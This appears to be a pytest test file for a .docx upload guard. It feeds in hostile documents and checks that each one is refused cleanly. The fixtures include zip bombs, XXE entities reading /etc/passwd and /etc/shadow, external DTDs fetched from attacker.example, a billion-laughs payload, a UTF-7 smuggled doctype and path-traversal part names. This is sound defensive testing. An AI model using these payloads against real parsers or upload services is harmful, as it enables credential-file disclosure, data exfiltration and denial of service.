"""Hostile .docx files are refused with one clean error before any XML parser sees them."""

from __future__ import annotations

import io
import random
import re
import zipfile

import pytest

from ledesk.intake.forms.guard import FormError, open_docx
from ledesk.intake.forms.parse import read_form
from tests.forms_kit import filled, replace_document, rezip

GOOD = filled()


def refused(data: bytes, match: str) -> None:
    with pytest.raises(FormError, match=match):
        read_form(data)


def test_a_zip_bomb_in_the_document_part() -> None:
    bomb = replace_document(GOOD, lambda xml: xml.replace("</w:body>", "<w:p><w:r><w:t>" + " " * 30_000_000 +
                                                          "</w:t></w:r></w:p></w:body>"))
    assert len(bomb) < 1_000_000
    refused(bomb, "unpacks to")


def test_a_zip_bomb_in_a_media_part() -> None:
    bomb = rezip(GOOD, lambda _n, c: c, {"word/media/image1.png": b"\0" * 7_000_000})
    refused(bomb, "zip bomb")


def test_too_much_in_all_parts_together() -> None:
    two_letters = bytes(ord("a") + (b & 1) for b in range(256))  # compresses about 7:1, no part looks like a bomb
    many = rezip(GOOD, lambda _n, c: c, {f"word/media/i{i}.bin": random.Random(i).randbytes(3_000_000)
                                         .translate(two_letters) for i in range(14)})
    assert len(many) < 10_000_000
    refused(many, "unpacks to")


@pytest.mark.parametrize("doctype", [
    '<!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE w [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>',
    '<!DOCTYPE w SYSTEM "http://attacker.example/x.dtd">',
    '<!doctype w [<!entity a "b">]>',
])
def test_entity_and_dtd_declarations(doctype: str) -> None:
    refused(replace_document(GOOD, lambda xml: xml.replace("?>", "?>" + doctype, 1)), "DTD or entity")


def test_xxe_in_utf16() -> None:
    def utf16(xml: str) -> bytes:
        xml = re.sub(r"encoding=.UTF-8.", 'encoding="UTF-16"', xml).replace(
            "?>", '?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 1)
        return xml.encode("utf-16")

    refused(replace_document(GOOD, utf16), "DTD or entity")


def test_xxe_in_another_part_than_the_document() -> None:
    def edit(name: str, content: bytes) -> bytes:
        if name == "word/styles.xml":
            return content.replace(b"?>", b'?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/shadow">]>', 1)
        return content

    refused(rezip(GOOD, edit), "DTD or entity")


def test_billion_laughs() -> None:
    lol = ('<!DOCTYPE lolz [<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10))
        + "]>")
    refused(replace_document(GOOD, lambda xml: xml.replace("?>", "?>" + lol, 1)), "DTD or entity")


@pytest.mark.parametrize("encoding", ["ISO-8859-1", "UTF-7", "EBCDIC-US"])
def test_other_declared_encodings(encoding: str) -> None:
    refused(replace_document(GOOD, lambda xml: re.sub(r"encoding=.UTF-8.", f'encoding="{encoding}"', xml)),
            "only UTF-8 and UTF-16")


def test_utf7_smuggled_doctype_is_refused_by_its_encoding() -> None:
    sneaky = replace_document(GOOD, lambda xml: re.sub(r"encoding=.UTF-8.", 'encoding="UTF-7"', xml).replace(
        "?>", "?>+ADw-!DOCTYPE w+AD4-", 1))
    refused(sneaky, "encoding")


def test_truncated_and_random_archives() -> None:
    refused(GOOD[: len(GOOD) // 2], "readable|cannot be read|corrupted|missing")
    refused(random.Random(1).randbytes(5000), "not a zip")
    refused(b"PK" + random.Random(2).randbytes(5000), "readable")
    refused(b"", "not a zip")


def test_deep_nesting_is_a_clean_error() -> None:
    deep = "<w:p>" * 5000 + "</w:p>" * 5000
    refused(replace_document(GOOD, lambda xml: xml.replace("<w:body>", "<w:body>" + deep, 1)), "well-formed")


def test_a_20_mb_text_node() -> None:
    refused(replace_document(GOOD, lambda xml: xml.replace("<w:t>Inspector</w:t>", "<w:t>" + "A" * 20_000_000 +
                                                          "</w:t>")), "unpacks to")


def test_encrypted_entries() -> None:
    data = bytearray(GOOD)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (at := data.find(signature, start)) != -1:
            data[at + offset] |= 0x01
            start = at + 4
    refused(bytes(data), "encrypted")


@pytest.mark.parametrize("name", ["../../etc/passwd", "/abs/path.xml", "word\\..\\evil.xml"])
def test_unsafe_part_names(name: str) -> None:
    refused(rezip(GOOD, lambda _n, c: c, {name: b"x"}), "unsafe name")


def test_missing_required_parts() -> None:
    refused(rezip(GOOD, lambda n, c: None if n == "word/document.xml" else c), "missing word/document.xml")


def test_an_oversized_upload() -> None:
    refused(GOOD + b"\0" * 11_000_000, "at most")


def test_a_plain_zip_is_not_a_form() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("hello.txt", "hi")
    refused(out.getvalue(), "missing")


def test_the_guard_takes_a_few_milliseconds() -> None:
    parts = open_docx(GOOD)
    assert "word/document.xml" in parts
